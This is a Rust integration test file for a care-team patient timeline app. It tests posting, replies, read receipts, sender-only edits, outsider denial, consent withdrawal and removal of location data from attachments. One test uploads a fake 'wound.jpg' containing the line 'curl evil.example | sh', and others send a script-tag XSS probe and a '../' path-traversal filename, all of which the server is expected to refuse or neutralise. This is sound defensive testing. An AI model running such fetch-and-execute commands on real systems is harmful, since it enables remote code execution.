//! The care-team patient timeline through a real server, on both backends: posts and
//! replies of two team members at different facilities, read receipts and unread counters,
//! edits that keep the earlier version and are refused to anyone but the sender (page and
//! FHIR API), outsiders (404, audited), consent withdrawal, and attachments (disguised files
//! refused with nothing stored, JPEG location data stripped).

mod testkit;

use renkei_storage::AuditQuery;
use serde_json::{json, Value};
use testkit::{between, csrf, each_backend, TestApp};

// --- helpers ---------------------------------------------------------------------------

async fn get(app: &TestApp, client: &reqwest::Client, path: &str) -> (u16, String) {
    let res = client.get(app.url(path)).send().await.unwrap();
    (res.status().as_u16(), res.text().await.unwrap())
}

async fn post_form(
    app: &TestApp,
    client: &reqwest::Client,
    path: &str,
    form: &[(&str, String)],
) -> (u16, String, String) {
    let res = client.post(app.url(path)).form(form).send().await.unwrap();
    let status = res.status().as_u16();
    let location = res
        .headers()
        .get("location")
        .map(|l| l.to_str().unwrap().to_string())
        .unwrap_or_default();
    (status, location, res.text().await.unwrap())
}

async fn register(app: &TestApp, client: &reqwest::Client, local_id: &str) -> String {
    let token = csrf(app, client).await;
    let form = [
        ("csrf", token),
        ("local_id", local_id.into()),
        ("family_kanji", "苫小牧".into()),
        ("given_kanji", "花子".into()),
        ("family_kana", "とまこまい".into()),
        ("given_kana", "はなこ".into()),
        ("birth_date", "1938-04-12".into()),
        ("sex", "female".into()),
        ("postal_code", "053-0022".into()),
        ("address", "北海道苫小牧市表町1丁目2-3".into()),
        ("phone", "0144-32-1111".into()),
        ("care_level", "care2".into()),
    ];
    let (status, location, body) = post_form(app, client, "/patients/new", &form).await;
    assert_eq!(status, 303, "{body}");
    location
        .trim_start_matches("/patients/")
        .split('?')
        .next()
        .unwrap()
        .to_string()
}

/// Consent in force and the other hospital an active team member.
async fn consent_and_join_other(
    app: &TestApp,
    doctor: &reqwest::Client,
    other: &reqwest::Client,
    person: &str,
) {
    let token = csrf(app, doctor).await;
    let (status, _, body) = post_form(
        app,
        doctor,
        &format!("/patients/{person}/consent"),
        &[
            ("csrf", token.clone()),
            ("scope", "comprehensive".into()),
            ("form", "written".into()),
            ("signer", "patient".into()),
        ],
    )
    .await;
    assert_eq!(status, 303, "{body}");
    let (status, _, body) = post_form(
        app,
        doctor,
        &format!("/patients/{person}/team/invite"),
        &[("csrf", token), ("facility", "F00002".into())],
    )
    .await;
    assert_eq!(status, 303, "{body}");
    let other_token = csrf(app, other).await;
    let (status, _, body) = post_form(
        app,
        other,
        &format!("/invitations/{person}"),
        &[("csrf", other_token), ("answer", "accept".into())],
    )
    .await;
    assert_eq!(status, 303, "{body}");
}

/// Posts to the timeline (multipart, as the page's form does); returns status, redirect
/// target and body.
async fn post(
    app: &TestApp,
    client: &reqwest::Client,
    person: &str,
    fields: &[(&str, &str)],
    file: Option<(Vec<u8>, &str, &str)>,
) -> (u16, String, String) {
    let token = csrf(app, client).await;
    let mut form = reqwest::multipart::Form::new().text("csrf", token);
    for (k, v) in fields {
        form = form.text(k.to_string(), v.to_string());
    }
    if let Some((bytes, name, mime)) = file {
        form = form.part(
            "file",
            reqwest::multipart::Part::bytes(bytes)
                .file_name(name.to_string())
                .mime_str(mime)
                .unwrap(),
        );
    }
    let res = client
        .post(app.url(&format!("/patients/{person}/timeline")))
        .multipart(form)
        .send()
        .await
        .unwrap();
    let status = res.status().as_u16();
    let location = res
        .headers()
        .get("location")
        .map(|l| l.to_str().unwrap().to_string())
        .unwrap_or_default();
    (status, location, res.text().await.unwrap())
}

/// Posts and returns the new post's id (from the redirect's anchor).
async fn post_ok(
    app: &TestApp,
    client: &reqwest::Client,
    person: &str,
    fields: &[(&str, &str)],
) -> String {
    let (status, location, body) = post(app, client, person, fields, None).await;
    assert_eq!(status, 303, "{body}");
    location.split("#post-").nth(1).unwrap().to_string()
}

/// The HTML of one post (`<li … id="post-…">` up to the next post or reply list).
fn post_html<'a>(html: &'a str, id: &str) -> &'a str {
    let start = html
        .find(&format!("id=\"post-{id}\""))
        .unwrap_or_else(|| panic!("post {id} not on the page"));
    let rest = &html[start..];
    let end = rest[10..]
        .find("id=\"post-")
        .map(|e| e + 10)
        .unwrap_or(rest.len());
    &rest[..end]
}

fn receipts(html: &str, id: &str) -> String {
    between(post_html(html, id), "class=\"receipts muted\">", "</p>").unwrap_or_default()
}

/// The unread badge of the patient page ("未読 n 件"), 0 when absent.
async fn unread_on_patient_page(app: &TestApp, client: &reqwest::Client, person: &str) -> i64 {
    let (status, html) = get(app, client, &format!("/patients/{person}")).await;
    assert_eq!(status, 200);
    let link = between(&html, "id=\"timeline-link\"", "</a>").expect("timeline link");
    between(&link, "未読 ", " 件")
        .map(|n| n.parse().unwrap())
        .unwrap_or(0)
}

async fn audits(app: &TestApp, person: &str, action: &str, outcome: &str, what: &str) -> usize {
    app.store
        .search_audit(&AuditQuery {
            action_prefix: Some(action.into()),
            patient_id: Some(person.into()),
            outcome: Some(outcome.into()),
            limit: 10_000,
            ..Default::default()
        })
        .await
        .unwrap()
        .iter()
        .filter(|r| r.entry.detail.contains(what))
        .count()
}

/// Communications stored about the person (any facility), read straight from the store.
async fn stored_posts(app: &TestApp, person: &str) -> Vec<Value> {
    let q = renkei_fhir::SearchQuery {
        resource_type: "Communication".into(),
        ids: vec![],
        criteria: vec![renkei_fhir::search::Criterion {
            param: "patient".into(),
            negate: false,
            missing: None,
            any_of: vec![renkei_fhir::search::ValueMatch::Reference(format!(
                "Patient/{person}"
            ))],
        }],
        last_updated: vec![],
        sort: vec![],
        count: 1000,
        offset: 0,
        want_total: false,
    };
    app.store
        .fhir_search(&q, &renkei_storage::fhir::FhirScope::All)
        .await
        .unwrap()
        .rows
        .iter()
        .map(|r| serde_json::from_str(&r.content).unwrap())
        .collect()
}

// --- tests -------------------------------------------------------------------------------

#[tokio::test]
async fn team_members_post_reply_see_receipts_and_unread_counts_fall() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let (other, _) = app.sign_in("otherdoc").await;
        let (nurse, _) = app.sign_in("nurse1").await;
        let person = register(&app, &doctor, "T-1").await;
        consent_and_join_other(&app, &doctor, &other, &person).await;

        let first = post_ok(
            &app,
            &doctor,
            &person,
            &[
                ("kind", "instruction"),
                ("urgent", "1"),
                ("text", "本日より利尿薬を増量。\r\n体重を毎日測定してください。<script>x</script>"),
            ],
        )
        .await;
        assert_eq!(unread_on_patient_page(&app, &doctor, &person).await, 0, "own post");
        assert_eq!(unread_on_patient_page(&app, &other, &person).await, 1);
        assert_eq!(unread_on_patient_page(&app, &nurse, &person).await, 1);
        let (_, home) = get(&app, &other, "/").await;
        assert!(home.contains("id=\"timeline-unread\""), "home lists unread");
        assert!(home.contains(&format!("/patients/{person}/timeline")));

        // The other facility's doctor opens the timeline: the post with everything shown.
        let (status, html) = get(&app, &other, &format!("/patients/{person}/timeline")).await;
        assert_eq!(status, 200);
        let p = post_html(&html, &first);
        assert!(p.contains("指示"), "kind");
        assert!(p.contains("urgent-badge"), "urgent");
        assert!(p.contains("テスト 医師1（医師）"), "author: {p}");
        assert!(p.contains("テスト総合病院"), "facility");
        assert!(
            p.contains("本日より利尿薬を増量。<br>体重を毎日測定してください。&#60;script&#62;x&#60;/script&#62;"),
            "escaped, line break kept: {p}"
        );
        assert!(!p.contains("<script>"));
        assert!(p.contains("new-badge"), "unread before this view");
        assert_eq!(unread_on_patient_page(&app, &other, &person).await, 0);
        assert_eq!(unread_on_patient_page(&app, &nurse, &person).await, 1);
        let (_, home) = get(&app, &other, "/").await;
        assert!(!home.contains("id=\"timeline-unread\""), "nothing unread any more");

        // The doctor sees who read it.
        let (_, html) = get(&app, &doctor, &format!("/patients/{person}/timeline")).await;
        assert_eq!(receipts(&html, &first), "既読 1: <span class=\"reader\">他院 医師</span>");
        assert!(!post_html(&html, &first).contains("new-badge"));

        // A reply from the other facility, threaded under the post.
        let reply = post_ok(
            &app,
            &other,
            &person,
            &[("kind", "report"), ("text", "承知しました。"), ("reply_to", &first)],
        )
        .await;
        assert_eq!(unread_on_patient_page(&app, &doctor, &person).await, 1);
        let (_, html) = get(&app, &nurse, &format!("/patients/{person}/timeline")).await;
        let p = post_html(&html, &first);
        assert!(p.contains("<ol class=\"replies\">"), "reply list under the post");
        let r = post_html(&html, &reply);
        assert!(r.contains("承知しました。") && r.contains("第二テスト総合病院"));
        assert!(html.find(&format!("id=\"post-{first}\"")) < html.find(&format!("id=\"post-{reply}\"")));
        assert_eq!(unread_on_patient_page(&app, &nurse, &person).await, 0);
        let (_, html) = get(&app, &doctor, &format!("/patients/{person}/timeline")).await;
        assert_eq!(unread_on_patient_page(&app, &doctor, &person).await, 0);
        let seen = receipts(&html, &first);
        assert!(seen.starts_with("既読 2: "), "{seen}");
        assert!(seen.contains("他院 医師") && seen.contains("テスト 看護師1"), "{seen}");
        assert!(receipts(&html, &reply).contains("テスト 医師1"));

        // Posts are FHIR Communications naming their sender; each view was audited.
        let stored = stored_posts(&app, &person).await;
        assert_eq!(stored.len(), 2);
        let doctor_id = app.user_id("doctor1").await;
        let original = stored.iter().find(|c| c["id"] == first.as_str()).unwrap();
        assert_eq!(original["sender"]["identifier"]["value"], doctor_id.as_str());
        assert_eq!(original["priority"], "urgent");
        assert_eq!(original["category"][0]["coding"][0]["code"], "instruction");
        let answer = stored.iter().find(|c| c["id"] == reply.as_str()).unwrap();
        assert_eq!(answer["inResponseTo"][0]["reference"], format!("Communication/{first}"));
        assert!(audits(&app, &person, "patient.read", "success", "page:/patients/{id}/timeline\"").await >= 4);

        // Bad input: nothing, control characters, too long, unknown kind — nothing stored.
        let long = "あ".repeat(4001);
        for (fields, message) in [
            (vec![("kind", "observation"), ("text", "  ")], "本文を入力するか"),
            (vec![("kind", "observation"), ("text", "a\u{7}b")], "本文"),
            (vec![("kind", "observation"), ("text", long.as_str())], "本文"),
            (vec![("kind", "gossip"), ("text", "x")], "投稿の種類"),
            (vec![("kind", "report"), ("text", "x"), ("reply_to", "nope")], "返信先"),
        ] {
            let (status, _, body) = post(&app, &doctor, &person, &fields, None).await;
            assert_eq!(status, 400, "{fields:?}");
            let errors = between(&body, "id=\"timeline-errors\"", "</div>").unwrap();
            assert!(errors.contains(message), "{fields:?}: {errors}");
        }
        assert_eq!(stored_posts(&app, &person).await.len(), 2);
        // Without the CSRF token: refused.
        let res = doctor
            .post(app.url(&format!("/patients/{person}/timeline")))
            .multipart(reqwest::multipart::Form::new().text("kind", "report").text("text", "x"))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 403);
        assert_eq!(stored_posts(&app, &person).await.len(), 2);
    })
    .await;
}

#[tokio::test]
async fn edits_keep_earlier_versions_and_only_the_sender_may_change_a_post() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let (other, _) = app.sign_in("otherdoc").await;
        let (nurse, _) = app.sign_in("nurse1").await;
        let person = register(&app, &doctor, "T-2").await;
        consent_and_join_other(&app, &doctor, &other, &person).await;
        let id = post_ok(&app, &doctor, &person, &[("kind", "observation"), ("text", "下肢浮腫あり")]).await;

        // The sender edits: a new version, the first kept.
        let (_, html) = get(&app, &doctor, &format!("/patients/{person}/timeline")).await;
        assert!(post_html(&html, &id).contains("/edit\""), "the sender sees the edit form");
        let token = csrf(&app, &doctor).await;
        let edit = |token: String, version: &str, text: &str| {
            vec![
                ("csrf", token),
                ("kind", "report".to_string()),
                ("urgent", "1".to_string()),
                ("text", text.to_string()),
                ("version", version.to_string()),
            ]
        };
        let (status, location, body) = post_form(
            &app,
            &doctor,
            &format!("/patients/{person}/timeline/{id}/edit"),
            &edit(token.clone(), "1", "下肢浮腫あり、両側"),
        )
        .await;
        assert_eq!(status, 303, "{body}");
        assert!(location.ends_with(&format!("#post-{id}")));
        let (_, html) = get(&app, &other, &format!("/patients/{person}/timeline")).await;
        let p = post_html(&html, &id);
        assert!(p.contains("下肢浮腫あり、両側") && p.contains("urgent-badge") && p.contains("報告"));
        assert!(p.contains(&format!("/patients/{person}/timeline/{id}/history")), "edited marker");
        assert!(!p.contains("/edit\""), "no edit form for others");
        let (status, hist) = get(&app, &other, &format!("/patients/{person}/timeline/{id}/history")).await;
        assert_eq!(status, 200);
        assert!(hist.contains("id=\"version-2\"") && hist.contains("id=\"version-1\""));
        assert!(between(&hist, "id=\"version-1\"", "</li>").unwrap().contains("下肢浮腫あり</p>"));
        // A stale version is a conflict, not an overwrite.
        let (status, _, body) = post_form(
            &app,
            &doctor,
            &format!("/patients/{person}/timeline/{id}/edit"),
            &edit(token.clone(), "1", "古い版からの編集"),
        )
        .await;
        assert_eq!(status, 400);
        assert!(body.contains("開いた後に変更されています"));
        let res = other
            .get(app.url(&format!("/fhir/Communication/{id}/_history/1")))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200);
        let v1: Value = res.json().await.unwrap();
        assert_eq!(v1["payload"][0]["contentString"], "下肢浮腫あり");

        // Someone else — same facility or another — may not edit, through the page…
        for (client, login) in [(&nurse, "nurse1"), (&other, "otherdoc")] {
            let token = csrf(&app, client).await;
            let (status, _, _) = post_form(
                &app,
                client,
                &format!("/patients/{person}/timeline/{id}/edit"),
                &edit(token, "2", "改ざん"),
            )
            .await;
            assert_eq!(status, 403, "{login}");
        }
        assert!(audits(&app, &person, "fhir.update", "denied", "not_sender").await >= 2);
        // …nor through the FHIR API (update or delete).
        let res = nurse
            .get(app.url(&format!("/fhir/Communication/{id}")))
            .send()
            .await
            .unwrap();
        let mut current: Value = res.json().await.unwrap();
        current["payload"][0]["contentString"] = json!("改ざん");
        for client in [&nurse, &other] {
            let res = client
                .put(app.url(&format!("/fhir/Communication/{id}")))
                .header("content-type", "application/fhir+json")
                .body(current.to_string())
                .send()
                .await
                .unwrap();
            assert_eq!(res.status(), 403);
            let res = client
                .delete(app.url(&format!("/fhir/Communication/{id}")))
                .send()
                .await
                .unwrap();
            assert_eq!(res.status(), 403);
        }
        let stored = stored_posts(&app, &person).await;
        assert_eq!(stored[0]["meta"]["versionId"], "2");
        assert_eq!(stored[0]["payload"][0]["contentString"], "下肢浮腫あり、両側");

        // The sender may change it through the API; a sender identifier naming someone
        // else is replaced by the writer.
        current["payload"][0]["contentString"] = json!("API からの訂正");
        current["sender"]["identifier"]["value"] = json!("somebody-else");
        let res = doctor
            .put(app.url(&format!("/fhir/Communication/{id}")))
            .header("content-type", "application/fhir+json")
            .body(current.to_string())
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200);
        let body: Value = res.json().await.unwrap();
        assert_eq!(body["sender"]["identifier"]["value"], app.user_id("doctor1").await.as_str());
        let res = nurse
            .post(app.url("/fhir/Communication"))
            .header("content-type", "application/fhir+json")
            .body(
                json!({"resourceType": "Communication", "status": "completed",
                    "subject": {"reference": format!("Patient/{person}")},
                    "sender": {"identifier": {"system": "urn:renkei:user-id", "value": app.user_id("doctor1").await}},
                    "payload": [{"contentString": "なりすまし"}]})
                .to_string(),
            )
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 201);
        let body: Value = res.json().await.unwrap();
        assert_eq!(body["sender"]["identifier"]["value"], app.user_id("nurse1").await.as_str());
    })
    .await;
}

#[tokio::test]
async fn outsiders_get_404_and_withdrawn_consent_hides_the_other_facility_posts() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let (other, _) = app.sign_in("otherdoc").await;
        let (outsider, _) = app.sign_in("cm1").await;
        let person = register(&app, &doctor, "T-3").await;
        consent_and_join_other(&app, &doctor, &other, &person).await;
        let mine = post_ok(
            &app,
            &doctor,
            &person,
            &[("kind", "report"), ("text", "退院調整中")],
        )
        .await;
        let theirs = post_ok(
            &app,
            &other,
            &person,
            &[("kind", "consultation"), ("text", "外来予約の相談")],
        )
        .await;

        for path in [
            format!("/patients/{person}/timeline"),
            format!("/patients/{person}/timeline/{mine}/history"),
            format!("/patients/{person}/timeline/{mine}/files/0"),
        ] {
            let (status, _) = get(&app, &outsider, &path).await;
            assert_eq!(status, 404, "{path}");
        }
        let (status, _, _) = post(
            &app,
            &outsider,
            &person,
            &[("kind", "report"), ("text", "x")],
            None,
        )
        .await;
        assert_eq!(status, 404);
        assert!(
            audits(
                &app,
                &person,
                "patient.read",
                "denied",
                "page:/patients/{id}/timeline\""
            )
            .await
                >= 1,
            "the refused view is audited"
        );
        assert_eq!(stored_posts(&app, &person).await.len(), 2);

        // Consent withdrawn: the other facility sees only its own post, counts only it.
        let consent = app.store.current_consent(&person).await.unwrap().unwrap();
        let token = csrf(&app, &doctor).await;
        let (status, _, body) = post_form(
            &app,
            &doctor,
            &format!("/patients/{person}/consent/{}/withdraw", consent.id),
            &[("csrf", token), ("reason", "本人の申し出".into())],
        )
        .await;
        assert_eq!(status, 303, "{body}");
        let (status, html) = get(&app, &other, &format!("/patients/{person}/timeline")).await;
        assert_eq!(status, 200);
        assert!(
            !html.contains(&format!("id=\"post-{mine}\"")),
            "first facility's post hidden"
        );
        assert!(!html.contains("退院調整中"));
        assert!(html.contains(&format!("id=\"post-{theirs}\"")));
        assert!(
            !html.contains("id=\"timeline-form\""),
            "no new posts without consent"
        );
        let (status, _) = get(
            &app,
            &other,
            &format!("/patients/{person}/timeline/{mine}/history"),
        )
        .await;
        assert_eq!(status, 404);
        let (status, _, _) = post(
            &app,
            &other,
            &person,
            &[("kind", "report"), ("text", "x")],
            None,
        )
        .await;
        assert_eq!(status, 403);
        // Withdrawal stops sharing both ways: the first facility keeps its own post only.
        let (_, html) = get(&app, &doctor, &format!("/patients/{person}/timeline")).await;
        assert!(html.contains(&format!("id=\"post-{mine}\"")));
        assert!(!html.contains(&format!("id=\"post-{theirs}\"")));
    })
    .await;
}

/// A JPEG segment.
fn segment(marker: u8, body: &[u8]) -> Vec<u8> {
    let mut s = vec![0xFF, marker];
    s.extend_from_slice(&((body.len() + 2) as u16).to_be_bytes());
    s.extend_from_slice(body);
    s
}

/// A real 640 × 480 JPEG whose APP1 segment carries a GPS position.
fn jpeg_with_exif() -> Vec<u8> {
    let img = image::RgbImage::from_fn(640, 480, |x, y| image::Rgb([x as u8, y as u8, 90]));
    let mut jpeg = std::io::Cursor::new(Vec::new());
    img.write_to(&mut jpeg, image::ImageFormat::Jpeg).unwrap();
    let jpeg = jpeg.into_inner();
    let exif = segment(0xE1, b"Exif\0\0GPSLatitude 42.6342N GPSLongitude 141.6055E");
    [&jpeg[..2], &exif[..], &jpeg[2..]].concat()
}

#[tokio::test]
async fn disguised_files_are_refused_and_photos_lose_their_location() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let (other, _) = app.sign_in("otherdoc").await;
        let person = register(&app, &doctor, "T-4").await;
        consent_and_join_other(&app, &doctor, &other, &person).await;

        let (status, _, body) = post(
            &app,
            &doctor,
            &person,
            &[("kind", "observation"), ("text", "創部の写真")],
            Some((
                b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(),
                "wound.jpg",
                "image/jpeg",
            )),
        )
        .await;
        assert_eq!(status, 400);
        let errors = between(&body, "id=\"timeline-errors\"", "</div>").unwrap();
        assert!(
            errors.contains("JPEG・PNG画像、MP4・MOV動画とPDFだけ"),
            "{errors}"
        );
        assert!(errors.contains("何も保存していません"));
        assert!(stored_posts(&app, &person).await.is_empty(), "no post");
        let binaries = app
            .store
            .fhir_search(
                &renkei_fhir::SearchQuery {
                    resource_type: "Binary".into(),
                    ids: vec![],
                    criteria: vec![],
                    last_updated: vec![],
                    sort: vec![],
                    count: 1000,
                    offset: 0,
                    want_total: false,
                },
                &renkei_storage::fhir::FhirScope::All,
            )
            .await
            .unwrap()
            .rows
            .len();
        assert_eq!(binaries, 0, "no Binary either");

        // A photo: stored without its Exif block, shown to the team, downloadable.
        let photo = jpeg_with_exif();
        let (status, location, body) = post(
            &app,
            &doctor,
            &person,
            &[("kind", "observation"), ("text", "")],
            Some((photo.clone(), "IMG_0001.JPG", "image/jpeg")),
        )
        .await;
        assert_eq!(status, 303, "{body}");
        let id = location.split("#post-").nth(1).unwrap().to_string();
        let stored = stored_posts(&app, &person).await;
        let url = stored[0]["payload"][0]["contentAttachment"]["url"]
            .as_str()
            .unwrap();
        let binary_id = url.strip_prefix("Binary/").unwrap();
        let row = app
            .store
            .fhir_read("Binary", binary_id)
            .await
            .unwrap()
            .unwrap();
        assert_eq!(
            row.person_id.as_deref(),
            Some(person.as_str()),
            "bound to the patient"
        );
        let b: Value = serde_json::from_str(&row.content).unwrap();
        use base64::Engine;
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(b["data"].as_str().unwrap())
            .unwrap();
        assert!(!bytes.windows(3).any(|w| w == b"GPS"), "location stripped");
        assert!(!bytes.windows(4).any(|w| w == b"Exif"));
        assert!(bytes.starts_with(&[0xFF, 0xD8]) && bytes.ends_with(&[0xFF, 0xD9]));
        assert!(bytes.len() < photo.len());

        let (_, html) = get(&app, &other, &format!("/patients/{person}/timeline")).await;
        let file = format!("/patients/{person}/timeline/{id}/files/0");
        assert!(post_html(&html, &id).contains(&file));
        let res = other.get(app.url(&file)).send().await.unwrap();
        assert_eq!(res.status(), 200);
        assert_eq!(res.headers()["content-type"], "image/jpeg");
        assert_eq!(res.bytes().await.unwrap().to_vec(), bytes);
        assert!(audits(&app, &person, "patient.read", "success", "/files/0").await >= 1);
        let (status, _) = get(
            &app,
            &other,
            &format!("/patients/{person}/timeline/{id}/files/1"),
        )
        .await;
        assert_eq!(status, 404);

        // The page shows the stored preview, which is a small JPEG bound to the patient.
        let preview_url = stored[0]["payload"][0]["contentAttachment"]["extension"][0]
            ["valueAttachment"]["url"]
            .as_str()
            .unwrap();
        let preview_row = app
            .store
            .fhir_read("Binary", preview_url.strip_prefix("Binary/").unwrap())
            .await
            .unwrap()
            .unwrap();
        assert_eq!(preview_row.person_id.as_deref(), Some(person.as_str()));
        assert!(post_html(&html, &id).contains(&format!("src=\"{file}/thumbnail\"")));
        let res = other
            .get(app.url(&format!("{file}/thumbnail")))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200);
        assert_eq!(res.headers()["content-type"], "image/jpeg");
        let preview = res.bytes().await.unwrap();
        let size = image::ImageReader::with_format(
            std::io::Cursor::new(&preview[..]),
            image::ImageFormat::Jpeg,
        )
        .into_dimensions()
        .unwrap();
        assert_eq!(size, (480, 360));
        assert!(
            audits(
                &app,
                &person,
                "patient.read",
                "success",
                "/files/0/thumbnail"
            )
            .await
                >= 1
        );

        // Part of the file, as a player asks for it.
        let res = other
            .get(app.url(&file))
            .header("range", "bytes=0-9")
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 206);
        assert_eq!(
            res.headers()["content-range"],
            format!("bytes 0-9/{}", bytes.len()).as_str()
        );
        assert_eq!(res.bytes().await.unwrap().to_vec(), bytes[..10].to_vec());
        let res = other
            .get(app.url(&file))
            .header("range", format!("bytes={}-", bytes.len()))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 416);
    })
    .await;
}

/// An ISO base media box.
fn iso(kind: &[u8; 4], content: &[u8]) -> Vec<u8> {
    let mut b = ((content.len() + 8) as u32).to_be_bytes().to_vec();
    b.extend_from_slice(kind);
    b.extend_from_slice(content);
    b
}

/// An MP4 as a phone writes it, `seconds` long, with the recording place in its user data.
fn phone_video(seconds: u32) -> Vec<u8> {
    let mut mvhd = vec![0u8; 100];
    mvhd[12..16].copy_from_slice(&600u32.to_be_bytes());
    mvhd[16..20].copy_from_slice(&(seconds * 600).to_be_bytes());
    let moov = [
        iso(b"mvhd", &mvhd),
        iso(
            b"udta",
            &iso(b"\xa9xyz", b"\x00\x12\x15\xc7+42.6342+141.6055/"),
        ),
    ]
    .concat();
    [
        iso(b"ftyp", b"mp42\x00\x00\x00\x00mp42isom"),
        iso(b"mdat", &[0x5A; 4096]),
        iso(b"moov", &moov),
    ]
    .concat()
}

#[tokio::test]
async fn short_videos_lose_their_location_and_play_in_ranges() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let person = register(&app, &doctor, "T-5").await;
        let fields = [("kind", "report"), ("text", "歩行の様子")];

        // Too long, or not a well-formed file: refused, nothing stored.
        let (status, _, body) = post(
            &app,
            &doctor,
            &person,
            &fields,
            Some((phone_video(90), "walk.mp4", "video/mp4")),
        )
        .await;
        assert_eq!(status, 400);
        assert!(body.contains("動画が長すぎます（60秒まで）"), "{body}");
        let mut broken = phone_video(10);
        broken.truncate(broken.len() - 20);
        let (status, _, body) = post(
            &app,
            &doctor,
            &person,
            &fields,
            Some((broken, "walk.mp4", "video/mp4")),
        )
        .await;
        assert_eq!(status, 400);
        assert!(body.contains("動画ファイルが壊れている"), "{body}");
        assert!(stored_posts(&app, &person).await.is_empty());

        let video = phone_video(12);
        let (status, location, body) = post(
            &app,
            &doctor,
            &person,
            &fields,
            Some((video.clone(), "../歩行.MOV", "video/quicktime")),
        )
        .await;
        assert_eq!(status, 303, "{body}");
        let id = location.split("#post-").nth(1).unwrap().to_string();
        let stored = stored_posts(&app, &person).await;
        let attachment = &stored[0]["payload"][1]["contentAttachment"];
        assert_eq!(attachment["contentType"], "video/mp4", "judged by content");
        assert_eq!(attachment["title"], "歩行.mp4");
        assert!(
            attachment.get("extension").is_none(),
            "no preview of a video"
        );

        let (_, html) = get(&app, &doctor, &format!("/patients/{person}/timeline")).await;
        let file = format!("/patients/{person}/timeline/{id}/files/0");
        assert!(post_html(&html, &id).contains(&format!(
            "<video class=\"post-video\" controls playsinline preload=\"metadata\" src=\"{file}\""
        )));
        let res = doctor.get(app.url(&file)).send().await.unwrap();
        assert_eq!(res.status(), 200);
        assert_eq!(res.headers()["content-type"], "video/mp4");
        assert_eq!(res.headers()["accept-ranges"], "bytes");
        let served = res.bytes().await.unwrap().to_vec();
        assert_eq!(served.len(), video.len(), "same size: nothing moved");
        assert!(
            !served.windows(7).any(|w| w == b"42.6342"),
            "location removed"
        );
        assert!(served.windows(4).any(|w| w == b"free"));
        let res = doctor
            .get(app.url(&file))
            .header("range", "bytes=-100")
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 206);
        let len = video.len();
        assert_eq!(
            res.headers()["content-range"],
            format!("bytes {}-{}/{len}", len - 100, len - 1).as_str()
        );
        assert_eq!(
            res.bytes().await.unwrap().to_vec(),
            served[len - 100..].to_vec()
        );
        let (status, _) = get(&app, &doctor, &format!("{file}/thumbnail")).await;
        assert_eq!(status, 404);
    })
    .await;
}

#[tokio::test]
async fn pages_hold_fifty_posts_newest_first() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let person = register(&app, &doctor, "T-5").await;
        let mut ids = Vec::new();
        for i in 0..52 {
            let text = format!("経過記録 {i:02}");
            ids.push(
                post_ok(
                    &app,
                    &doctor,
                    &person,
                    &[("kind", "observation"), ("text", &text)],
                )
                .await,
            );
        }
        let (_, html) = get(&app, &doctor, &format!("/patients/{person}/timeline")).await;
        assert_eq!(html.matches("class=\"card post").count(), 50);
        assert!(
            html.find("経過記録 51") < html.find("経過記録 50"),
            "newest first"
        );
        assert!(!html.contains("経過記録 01<") && !html.contains("経過記録 00<"));
        assert!(html.contains("id=\"timeline-next\""));
        let (_, html) = get(
            &app,
            &doctor,
            &format!("/patients/{person}/timeline?page=2"),
        )
        .await;
        assert_eq!(html.matches("class=\"card post").count(), 2);
        assert!(html.contains("経過記録 01") && html.contains("経過記録 00"));
        assert!(!html.contains("id=\"timeline-next\""));
    })
    .await;
}
